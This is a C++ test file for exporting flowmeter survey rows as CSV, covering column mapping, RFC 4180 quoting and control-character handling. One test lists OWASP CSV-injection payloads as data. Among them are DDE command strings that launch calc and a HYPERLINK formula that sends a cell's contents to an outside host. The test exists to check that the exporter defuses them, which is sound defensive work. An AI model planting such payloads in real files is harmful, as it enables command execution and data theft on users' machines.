// Rows of a survey as CSV, read back by a reader of its own and compared with the plan's JSON.

#include <catch2/catch.hpp>
#include <charconv>
#include <map>
#include <nlohmann/json.hpp>
#include <optional>
#include <set>

#include "sheets/survey_rows.hpp"

using namespace slantrule;
using namespace slantrule::test;
using Catch::Matchers::Contains;
using Catch::Matchers::StartsWith;
using Json = nlohmann::json;

namespace {

/// RFC 4180, section 2: records of fields, quoted ones with doubled quotes; records end in a line
/// feed here. Anything else fails the test.
std::vector<std::vector<std::string>> read_csv(std::string_view text, char separator) {
  std::vector<std::vector<std::string>> records(1);
  std::string field;
  bool quoted = false, closed = false, started = false;
  for (std::size_t i = 0; i < text.size(); ++i) {
    const char c = text[i];
    if (quoted) {
      if (c != '"') {
        field += c;
      } else if (i + 1 < text.size() && text[i + 1] == '"') {
        field += '"';
        ++i;
      } else {
        quoted = false;
        closed = true;
      }
    } else if (c == separator || c == '\n') {
      records.back().push_back(std::move(field));
      field.clear();
      closed = started = false;
      if (c == '\n') records.emplace_back();
    } else if (c == '"') {
      REQUIRE_FALSE(started);
      quoted = started = true;
    } else {
      REQUIRE_FALSE(closed);
      field += c;
      started = true;
    }
  }
  REQUIRE_FALSE(quoted);
  REQUIRE(records.back().empty());
  records.pop_back();
  return records;
}

using Cells = std::map<std::string, std::string>;

/// One row by column.
Cells cells_of(const SurveyRow& row, const std::vector<std::string>& headings = {},
               char separator = ',') {
  const ListColumns columns(headings);
  std::string text = survey_csv_header(columns, separator);
  append_survey_csv(text, row, columns, separator);
  const auto records = read_csv(text, separator);
  REQUIRE(records.size() == 2);
  REQUIRE(records[0].size() == records[1].size());
  Cells out;
  for (std::size_t i = 0; i < records[0].size(); ++i) {
    INFO(records[0][i]);
    REQUIRE(out.emplace(records[0][i], records[1][i]).second);
  }
  return out;
}

/// One cell of the list as it comes back.
std::string safe(const std::string& cell, char separator = ',') {
  HeldRow held = refused_row(1, {{"", "", "no"}}, {cell});
  return cells_of(held.row, {"cell"}, separator).at("list: cell");
}

double number(const std::string& text) {
  double value = 0;
  const auto read = std::from_chars(text.data(), text.data() + text.size(), value);
  INFO(text);
  REQUIRE(read.ec == std::errc{});
  REQUIRE(read.ptr == text.data() + text.size());
  return value;
}

/// Dotted columns of which the JSON has the like.
std::set<std::string> plan_columns(const Cells& cells) {
  std::set<std::string> out;
  for (const auto& [column, cell] : cells) {
    if (column.find('.') != std::string::npos && !column.starts_with("list:") &&
        !column.starts_with("findings.")) {
      out.insert(column);
    }
  }
  return out;
}

Json::json_pointer pointer_of(std::string column) {
  for (char& c : column) {
    if (c == '.') c = '/';
  }
  return Json::json_pointer("/" + column);
}

}  // namespace

TEST_CASE("survey csv: every column holds what the plan's JSON has under its key") {
  std::size_t filled = 0, empty = 0;
  for (std::size_t i = 0; i < dozen_jobs().size(); ++i) {
    CAPTURE(i);
    const HeldRow held = planned_row(i + 1, dozen_jobs()[i]);
    const Json sheet = Json::parse(json_sheet(held.row.planned, "1"));
    const Cells cells = cells_of(held.row);
    CHECK(cells.at("row") == std::to_string(i + 1));
    CHECK(cells.at("line") == std::to_string(i + 4));
    CHECK(cells.at("status") == "planned");
    CHECK(cells.at("verdict") == sheet.at("verdict"));
    CHECK(cells.at("tag") == sheet.at("tag"));
    for (const std::string& column : plan_columns(cells)) {
      CAPTURE(column);
      const std::string& cell = cells.at(column);
      if (!sheet.contains(pointer_of(column))) {
        CHECK(cell.empty());
        ++empty;
        continue;
      }
      ++filled;
      const Json& value = sheet.at(pointer_of(column));
      if (value.is_number()) {
        // The very same double: nothing is rounded.
        CHECK(number(cell) == value.get<double>());
      } else if (value.is_boolean()) {
        CHECK(cell == (value.get<bool>() ? "true" : "false"));
      } else {
        CHECK(cell == value.get<std::string>());
      }
    }
  }
  // The dozen has all of it, and lacks enough.
  CHECK(filled > 400);
  CHECK(empty > 40);
}

TEST_CASE("survey csv: columns that people rely on") {
  const Cells cells = cells_of(planned_row(1).row);
  // ASME B36.10M: NPS 6 schedule 40 is 168.3 mm x 7.11 mm.
  CHECK(cells.at("pipe.outside_diameter_mm") == "168.3");
  CHECK(cells.at("pipe.wall_mm") == "7.11");
  CHECK(cells.at("fluid.temperature_degC") == "7");
  for (const char* column : {"pipe.liner_mm",
                             "pipe.inside_diameter_mm",
                             "pipe.material",
                             "fluid.name",
                             "fluid.sound_speed_m_s",
                             "path.traverses",
                             "path.sides",
                             "path.wall_mode",
                             "path.angles_deg.fluid",
                             "path.exit_spacing_mm",
                             "path.mark_spacing_mm",
                             "path.face_gap_mm",
                             "path.overall_length_mm",
                             "path.zero_flow_time_us",
                             "path.fluid_time_us",
                             "flow.velocity_m_s",
                             "flow.reynolds",
                             "flow.regime",
                             "flow.profile_factor",
                             "flow.time_difference_ns",
                             "straight_run.upstream.required_D",
                             "straight_run.upstream.available_D",
                             "straight_run.downstream.required_D",
                             "straight_run.downstream.available_D",
                             "mounting.clock",
                             "mounting.setting_step_mm",
                             "signal.loss_dB",
                             "sensors.key",
                             "sensors.invented",
                             "expect.sound_speed_m_s",
                             "expect.zero_flow_time_us",
                             "expect.time_difference_ns"}) {
    CAPTURE(column);
    REQUIRE(cells.count(column) == 1);
    CHECK_FALSE(cells.at(column).empty());
  }
}

TEST_CASE("survey csv: findings by severity, and the gravest in words") {
  const HeldRow held =
      planned_row(1, {R"(location.upstream=[{"fitting":"elbow-90","distance":"1 D"}])"});
  const Cells cells = cells_of(held.row);
  const Json sheet = Json::parse(json_sheet(held.row.planned, "1"));
  std::map<std::string, std::string> ids;
  for (const Json& one : sheet.at("findings")) {
    std::string& joined = ids[one.at("severity")];
    if (!joined.empty()) joined += "; ";
    joined += one.at("id").get<std::string>();
  }
  CHECK(cells.at("findings.stop") == "run.upstream");
  CHECK(cells.at("findings.stop") == ids["stop"]);
  CHECK(cells.at("findings.caution") == ids["caution"]);
  CHECK(cells.at("findings.note") == ids["note"]);
  const Json& gravest = sheet.at("findings").front();
  CHECK(cells.at("finding") ==
        gravest.at("message").get<std::string>() + " " + gravest.at("do").get<std::string>());
}

TEST_CASE("survey csv: of equally grave findings a conflict with its price comes first") {
  // NPS 6 schedule 40 has 7.11 mm (ASME B36.10M).
  const HeldRow held = planned_row(
      1, {"pipe.wall=5 mm", "location.upstream=", "location.downstream=", "location.clock="});
  const Json sheet = Json::parse(json_sheet(held.row.planned, "1"));
  REQUIRE(sheet.at("findings").front().at("id") != "pipe.wall-conflict");
  REQUIRE(sheet.at("findings").front().at("severity") == "caution");
  const Cells cells = cells_of(held.row);
  CHECK_THAT(cells.at("finding"), StartsWith("The wall is stated as 5"));
  CHECK_THAT(cells.at("finding"), Contains("the flow would be off by"));
}

TEST_CASE("survey csv: a short name is told in full") {
  const HeldRow held = planned_row(
      1, {"fluid.name=PG", "fluid.concentration=40 % mass", "fluid.temperature=5 degC"});
  const Cells cells = cells_of(held.row);
  CHECK(cells.at("fluid.name") == "PG");
  CHECK_THAT(cells.at("fluid.full_name"), Contains("Propylene glycol"));
}

TEST_CASE("survey csv: of candidates, what all have in common, and each by name") {
  const HeldRow held =
      planned_row(1, {R"(pipe.size={"one_of":["NPS 6 sch 40","NPS 1/2 sch 40"]})"});
  REQUIRE(held.row.planned.variants.size() == 2);
  const Cells cells = cells_of(held.row);
  const Json sheet = Json::parse(json_sheet(held.row.planned, "1"));
  const Json& first = sheet.at("candidates")[0];
  const Json& second = sheet.at("candidates")[1];
  REQUIRE(first.at("verdict") != second.at("verdict"));
  CHECK(cells.at("verdict") == "stop");
  std::size_t common = 0, different = 0;
  for (const std::string& column : plan_columns(cells)) {
    CAPTURE(column);
    const auto at = pointer_of(column);
    const bool alike = first.contains(at) && second.contains(at) && first.at(at) == second.at(at);
    ++(alike ? common : different);
    CHECK(cells.at(column).empty() != alike);
  }
  CHECK(common > 10);
  CHECK(different > 10);
  CHECK_THAT(cells.at("candidates"), Contains("NPS 6 sch 40: "));
  CHECK_THAT(cells.at("candidates"), Contains("NPS 1/2 sch 40: "));
  CHECK_THAT(cells.at("candidates"), Contains(" mm, stop"));
  CHECK_FALSE(cells.at("findings.stop").empty());
  CHECK_THAT(cells.at("finding"), Contains("NPS 1/2 sch 40: "));
}

TEST_CASE("survey csv: a refused row has its problems and no numbers") {
  const HeldRow held = refused_row(
      7, {{"Wall (mm)", "7,111", "may be 7.111 or 7111; write one"}, {"", "", "is odd"}},
      {"X-1", "7,111"}, "X-1");
  const Cells cells = cells_of(held.row, {"Tag", "Wall (mm)"});
  CHECK(cells.at("row") == "7");
  CHECK(cells.at("line") == "10");
  CHECK(cells.at("status") == "refused");
  CHECK(cells.at("tag") == "X-1");
  CHECK(cells.at("verdict").empty());
  CHECK(cells.at("problems") == "Wall (mm): may be 7.111 or 7111; write one | is odd");
  CHECK(cells.at("list: Tag") == "X-1");
  CHECK(cells.at("list: Wall (mm)") == "7,111");
  for (const std::string& column : plan_columns(cells)) CHECK(cells.at(column).empty());
}

TEST_CASE("survey csv: remarks stand in a planned row") {
  HeldRow held = planned_row(1);
  held.row.list.remarks = {{"lined", "see photo", "taken for missing"}};
  CHECK(cells_of(held.row).at("remarks") == "lined: taken for missing");
}

TEST_CASE("survey csv: the list comes back whole, whatever its shape") {
  const std::vector<std::string> headings{"Reading", "Reading", "", "row", "Reading (2)"};
  HeldRow held = refused_row(1, {{"", "", "no"}}, {"1", "2", "3", "4", "5", "six", "", "8, eight"});
  const Cells full = cells_of(held.row, headings);
  CHECK(full.at("list: Reading") == "1");
  CHECK(full.at("list: Reading (2)") == "2");
  CHECK(full.at("list: column 3") == "3");
  CHECK(full.at("list: row") == "4");
  CHECK(full.at("list: Reading (2) (2)") == "5");
  CHECK(full.at("list: beyond") == "six |  | 8, eight");
  CHECK(full.at("row") == "1");

  HeldRow shorter = refused_row(1, {{"", "", "no"}}, {"1"});
  const Cells cells = cells_of(shorter.row, headings);
  CHECK(cells.at("list: Reading") == "1");
  CHECK(cells.at("list: column 3").empty());
  CHECK(cells.at("list: beyond").empty());
}

TEST_CASE("survey csv: quoting by RFC 4180, with any separator") {
  for (char separator : {',', ';', '\t'}) {
    CAPTURE(separator);
    for (const std::string text :
         {"plain", "a,b", "a;b", "say \"so\"", "\"", "4\"", "", " blanks kept ", "\"a\",\"b\"",
          "Rohr Ø 139,7", "Ду 100", "φ76.3×4.2"}) {
      CAPTURE(text);
      CHECK(safe(text, separator) == text);
    }
  }
  // RFC 4180, 2.7: a quote inside is doubled, and the field enclosed.
  std::string out;
  HeldRow held = refused_row(1, {{"", "", "no"}}, {"4\""});
  const std::vector<std::string> headings{"size"};
  append_survey_csv(out, held.row, ListColumns(headings));
  CHECK_THAT(out, Contains(",\"4\"\"\",\n"));
}

TEST_CASE("survey csv: a cell of the list comes back to the last character") {
  for (char separator : {',', ';', '\t'}) {
    for (const std::string& text :
         {std::string("two\nlines"), std::string("two\r\nlines, \"quoted\"\n"), std::string("a\tb"),
          std::string("a\x1b[31mc\x7f"), std::string("nul\0nul", 7),
          std::string("a\xC2\x9B"
                      "b")}) {
      CAPTURE(text, separator);
      CHECK(safe(text, separator) == text);
    }
  }
  CHECK(safe("a\xFF"
             "b") == "a?b");
  HeldRow beyond = refused_row(1, {{"", "", "no"}}, {"1", "two\nlines", "\t3"});
  CHECK(cells_of(beyond.row, {"Tag"}).at("list: beyond") == "two\nlines | \t3");
}

TEST_CASE("survey csv: our own texts are on one line without control characters") {
  const auto told = [](const std::string& text) {
    const HeldRow held = refused_row(1, {{"", "", text}});
    std::string line;
    append_survey_csv(line, held.row, ListColumns({}));
    CHECK(std::count(line.begin(), line.end(), '\n') == 1);
    return cells_of(held.row).at("problems");
  };
  CHECK(told("two\nlines") == "two lines");
  CHECK(told("two\r\nlines") == "two lines");
  CHECK(told("a\tb\x1b[31mc\x7f") == "a b [31mc ");
  CHECK(told(std::string("nul\0nul", 7)) == "nul nul");
  // C1 controls, direction overrides and broken UTF-8.
  CHECK(told("a\xC2\x9B"
             "b") == "a?b");
  CHECK(told("a\xE2\x80\xAE"
             "b") == "a?b");
  CHECK(told("a\xFF"
             "b") == "a?b");
}

TEST_CASE("survey csv: no cell of a list is a formula to a spreadsheet") {
  // OWASP, "CSV Injection": cells that begin with = + - @, tab (0x09), carriage return (0x0D), line
  // feed (0x0A), or the full-width forms of these signs.
  for (const std::string text : {"=1+1",
                                 "+1+1",
                                 "-1+1",
                                 "@SUM(1)",
                                 "=cmd|' /C calc'!A0",
                                 "-5+cmd|' /C calc'!A0",
                                 "=HYPERLINK(\"http://example.com?x=\"&A1,\"click\")",
                                 "\uff1d1+1",
                                 "\uff0b1",
                                 "\uff0d1",
                                 "\uff20SUM(1)",
                                 "-",
                                 "+",
                                 "=",
                                 "@",
                                 "-5,3,1",
                                 "+1e",
                                 "--1",
                                 "-.",
                                 "-12 degC"}) {
    for (const std::string before : {"", " ", "   ", "\u00a0", "\u3000", "\ufeff"}) {
      for (char separator : {',', ';', '\t'}) {
        CAPTURE(text, before, separator);
        CHECK(safe(before + text, separator) == "'" + before + text);
      }
    }
  }
  for (const std::string text : {"\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\twords", "\rwords"}) {
    CAPTURE(text);
    CHECK(safe(text) == "'" + text);
  }
  // What is a number and nothing else stays one.
  for (const std::string text :
       {"-5.3", "+5.3", "-5,3", "-5", "-.5", "-5.", "-1E+02", "+1e-3", " -5.3", "-5.3 "}) {
    CAPTURE(text);
    CHECK(safe(text) == text);
  }
  // A sign further in is no formula.
  for (const std::string text : {"a=1", "6\"-CW-1001", "1-1/2\" SCH40", "x@y"}) {
    CAPTURE(text);
    CHECK(safe(text) == text);
  }
}

TEST_CASE("survey csv: our own texts are no formulas either, and our numbers stay numbers") {
  const HeldRow held = planned_row(1, {"tag==1+1", "fluid.name=-oil", "fluid.sound_speed=1400 m/s",
                                       "fluid.temperature=-3.5 degC"});
  const Cells cells = cells_of(held.row);
  CHECK(cells.at("tag") == "'=1+1");
  CHECK(cells.at("fluid.name") == "'-oil");
  CHECK(number(cells.at("fluid.temperature_degC")) == Approx(-3.5));
  CHECK_THAT(cells.at("fluid.temperature_degC"), StartsWith("-3.5"));

  HeldRow refused = refused_row(1, {{"=A1", "x", "no unit"}});
  CHECK(cells_of(refused.row).at("problems") == "'=A1: no unit");
}

TEST_CASE("survey csv: spacings below zero stay numbers") {
  // The marks lie ahead of the exit points, so far that they cross.
  const HeldRow held = planned_row(
      1, {R"(sensors={"frequency":"1 MHz","element":"12 mm","setback":"-90 mm","nose":"1 mm",
              "wedge":{"sound_speed":"2430 m/s","slope":"-1.9 m/s/K","angle":"38 deg"}})"});
  REQUIRE(held.row.planned.variants.front().plan.path->ray.mark_spacing_m < 0);
  const std::string spacing = cells_of(held.row).at("path.mark_spacing_mm");
  CHECK(number(spacing) == held.row.planned.variants.front().plan.path->ray.mark_spacing_m * 1e3);
}
